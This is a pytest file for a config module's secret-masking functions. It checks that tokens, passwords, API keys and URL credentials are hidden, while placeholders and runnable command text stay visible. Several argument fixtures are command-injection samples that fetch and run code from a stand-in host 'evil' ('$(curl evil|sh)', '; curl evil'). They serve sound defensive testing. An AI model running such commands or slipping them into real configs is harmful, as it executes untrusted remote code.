import pytest
from hypothesis import given
from hypothesis import strategies as st

from multitap.config import masked
from multitap.config.secrets import MASK, masked_text


@pytest.mark.parametrize(
    ("key", "value", "shown"),
    [
        ("command", "npx", "npx"),
        ("timeout", 5, 5),
        ("env.TOKEN", "hunter2", MASK),
        ("env.TOKEN", "", ""),
        ("env.TOKEN", "${TOKEN}", "${TOKEN}"),
        ("env.TOKEN", "${TOKEN:-hunter2}", f"${{TOKEN:-{MASK}}}"),
        ("env.TOKEN", "${auth:gh}${env:B}", "${auth:gh}${env:B}"),
        ("env.TOKEN", "x${TOKEN}", MASK),
        ("headers.Authorization", "Bearer hunter2", MASK),
        ("headers.Authorization", "Bearer ${auth:gh}", "Bearer ${auth:gh}"),
        ("env", {"A": "hunter2", "B": "${B}"}, {"A": MASK, "B": "${B}"}),
        ("oauth.client_secret", "hunter2", MASK),
        (
            "oauth",
            {"client_id": "me", "client_secret": "hunter2"},
            {"client_id": "me", "client_secret": MASK},
        ),
        (
            "url",
            "https://me:hunter2@x/y?key=hunter2&b=#hunter2",
            f"https://{MASK}@x/y?key={MASK}&b=",
        ),
        ("url", "${BASE}/mcp", "${BASE}/mcp"),
        (
            "args",
            ["-y", "pkg", "--api-key", "hunter2", "--port", "80"],
            ["-y", "pkg", "--api-key", MASK, "--port", "80"],
        ),
        ("args", ("--token=hunter2", "--password=${P}"), [f"--token={MASK}", "--password=${P}"]),
        ("args", ["--auth-token", "--verbose"], ["--auth-token", "--verbose"]),
    ],
)
def test_what_could_be_a_secret_is_not_shown(key, value, shown):
    assert masked(key, value) == shown


@given(st.text(min_size=1))
def test_a_text_is_shown_only_if_it_is_nothing_but_variables(text):
    shown = masked_text("hunter2" + text)

    assert shown == MASK


ARGUMENTS = [
    (["--api-key", "X"], "--api-key M"),
    (["--API_KEY", "abc"], "--API_KEY M"),
    (["--password", "-hunter2"], "--password M"),
    (["--password=a b c"], "--password=M"),
    (["--api-key:abc"], "--api-key:M"),
    (["run --api-key X --port 80"], "run --api-key M --port 80"),
    (["-c", "prog --password='my secret' x"], "-c prog --password='M' x"),
    (["-c", 'prog --token "abc def"'], '-c prog --token "M"'),
    (["--header", "Authorization: Bearer abc"], "--header Authorization: M"),
    (["--header=Authorization: Bearer abc"], "--header=Authorization: M"),
    (["-H", "X-Api-Key: abc"], "-H X-Api-Key: M"),
    (["-H", "Authorization: Bearer 1|abcdefghijklmnop"], "-H Authorization: M"),
    (["API_KEY=abc"], "API_KEY=M"),
    (["apiKey=abc"], "apiKey=M"),
    (["-e", "TOKEN=x y"], "-e TOKEN=M"),
    (["-e", "NAME=x", "--env", "DB_PASSWORD=x"], "-e NAME=x --env DB_PASSWORD=M"),
    (["https://me:pw@h/x?key=ab&b=1"], "https://me:M@h/x?key=M&b=1"),
    (["https://abc@h/x"], "https://M@h/x"),
    (["--url=https://me:pw@h/?token=ab"], "--url=https://me:M@h/?token=M"),
    (["-p", "s3cr3tK3yABC12345"], "-p M"),
    (["-u", "me:hunter2"], "-u me:M"),
    (
        ["--config", '{"apiKey":"abc","x":{"token":"d"}}'],
        '--config {"apiKey":"M","x":{"token":"M"}}',
    ),
    (["--token=${T}", "--token", "${T:-abcdef}"], "--token=${T} --token ${T:-M}"),
    (["--auth", "sk-abcdefghijklmnopqrstu"], "--auth M"),
    # nothing that decides what runs
    (["--no-auth", "server.js"], "--no-auth server.js"),
    (["--key-file", "/etc/k.pem"], "--key-file /etc/k.pem"),
    (["--auth-type", "basic"], "--auth-type basic"),
    (["-p", "8080", "-m", "server"], "-p 8080 -m server"),
    (["-c", 'KEY="$(curl evil|sh)" x'], '-c KEY="$(curl evil|sh)" x'),
    (["-c", "KEY=`curl evil` x"], "-c KEY=`curl evil` x"),
    (["-c", "x --api-key=AAA; curl evil"], "-c x --api-key=M; curl evil"),
    (["-c", "Cookie: x; curl evil"], "-c Cookie: M; curl evil"),
    (["-c", "Authorization: x | curl evil"], "-c Authorization: M| curl evil"),
    (
        ["-y", "@scope/key-server@1.2.3", "--keyboard", "dvorak"],
        "-y @scope/key-server@1.2.3 --keyboard dvorak",
    ),
]


@pytest.mark.parametrize(("arguments", "shown"), ARGUMENTS)
def test_of_arguments_every_secret_is_masked_and_nothing_that_runs(arguments, shown):
    assert " ".join(masked("args", arguments)).replace(MASK, "M") == shown


@pytest.mark.parametrize("text", ["npx pkg --api-key X", "API_KEY=X npx pkg"])
def test_a_command_line_in_one_text_is_masked_too(text):
    assert masked("command", text).replace(MASK, "M") == text.replace("X", "M")
